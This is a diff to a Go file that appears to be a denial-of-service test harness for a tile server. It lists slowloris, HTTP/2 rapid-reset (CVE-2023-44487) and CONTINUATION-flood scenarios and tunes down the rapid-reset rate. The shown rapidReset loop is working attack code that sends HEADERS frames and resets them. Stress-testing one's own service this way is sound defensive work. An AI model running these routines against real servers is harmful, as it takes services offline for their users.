@@ -46,7 +46,7 @@ var attacks = []attack{
 	{name: "h2-window0-spread", what: "the same of 500 clients", connections: 500, run: streamsUnread("/tiles/basemap/7/66/44.png", true, 250, 0)},
 	{name: "stopped-readers", what: "1,000 clients with 30 tiles each that stop reading", connections: 1000, small: true, run: streamsUnread("/tiles/basemap/7/66/44.png", true, 30, 1<<20)},
 	{name: "slowloris", what: "2,000 connections that send a byte of their header in a second", connections: 2000, addresses: 20, run: slowloris},
-	{name: "rapid-reset", what: "50 connections that reset 200 requests a second each (CVE-2023-44487)", connections: 50, addresses: 5, run: rapidReset},
+	{name: "rapid-reset", what: "50 connections that reset 40 requests a second each (CVE-2023-44487)", connections: 50, addresses: 5, run: rapidReset},
 	{name: "continuation", what: "50 connections, each with a header of 16 KiB frames that never ends (CVE-2023-45288)", connections: 50, addresses: 5, run: continuation},
 	{name: "large-headers", what: "50 connections that send header fields of 1 MiB over HTTP/1.1", connections: 50, addresses: 5, run: largeHeaders},
 	{name: "idle", what: "6,000 connections of one client that ask once and stay", connections: 6000, addresses: 1, run: idle},
@@ -246,7 +246,7 @@ func rapidReset(ctx context.Context, conn net.Conn, v victim) error {
 	}
 	go io.Copy(io.Discard, conn) //nolint:errcheck // ends with the connection
 	block := requestBlock("/tiles/basemap/7/66/44.png", v.token)
-	for id := uint32(1); wait(ctx, 100*time.Millisecond); {
+	for id := uint32(1); wait(ctx, 500*time.Millisecond); {
 		for range 20 {
 			err = errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}), f.WriteRSTStream(id, http2.ErrCodeCancel))
 			id += 2
